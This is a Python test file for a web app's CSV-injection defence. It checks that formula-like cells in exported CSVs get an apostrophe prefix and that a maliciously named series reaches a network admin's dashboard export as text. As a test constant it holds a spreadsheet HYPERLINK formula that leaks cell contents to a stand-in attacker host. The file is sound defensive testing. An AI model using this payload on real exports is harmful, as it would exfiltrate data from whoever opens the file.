"""CSV injection: every CSV the app writes goes through app/results/csv_cells.py, so a name or an
answer that a spreadsheet would run as a formula arrives as text (issue 21, item 6)."""

import csv
import io
from datetime import UTC, datetime

import pytest

from app.extensions import db
from app.models.library import BarometerPrompt
from app.network import barometer, series
from app.results import csv_cells, exports

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full report")'


@pytest.mark.parametrize("value, cell", [
    ("=SUM(A1:A9)", "'=SUM(A1:A9)"), ("+32 470", "'+32 470"), ("-5", "'-5"), ("@home", "'@home"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("ok = fine", "ok = fine"), ("", ""), (7, 7), (-3, -3), (2.5, 2.5),
    (None, None),
])
def test_cells_a_spreadsheet_would_run_get_an_apostrophe_and_numbers_stay_numbers(value, cell):
    assert csv_cells.escape(value) == cell


def test_a_joined_list_that_starts_a_formula_is_escaped_once_in_the_answers_csv():
    assert csv_cells.write([[exports.cell(["=a", "b"]), 4]]) == "'=a; b,4\r\n"


def test_a_series_named_like_a_formula_arrives_as_text_in_the_dashboard_csv(client, auth, make):
    """The attack: a facilitator names a series =HYPERLINK(...); a network admin downloads
    the dashboard CSV and opens it in a spreadsheet."""
    owner = make.user()
    named = series.create_series(owner, ATTACK)
    meeting = make.meeting(owner, kinds=[])
    barometer.add_to(meeting)
    series.set_series(meeting, named)
    meeting.opened_at = datetime(2025, 3, 12, 18, tzinfo=UTC)
    db.session.commit()
    items = set(db.session.scalars(db.select(BarometerPrompt.prompt_id)))
    for _ in range(3):
        person, _token = make.participant(meeting, "youngster")
        for prompt in meeting.prompts:
            if prompt.id in items and prompt.audience == "youngster":
                make.answer(meeting, person, prompt, 4)
    auth.login(make.user(role="network_admin"))
    body = client.get("/f/dashboard.csv?from=2025-01&to=2025-06&period=month").get_data(as_text=True)
    names = {row["name"] for row in csv.DictReader(io.StringIO(body)) if row["section"] == "series"}
    assert names == {"'" + ATTACK}
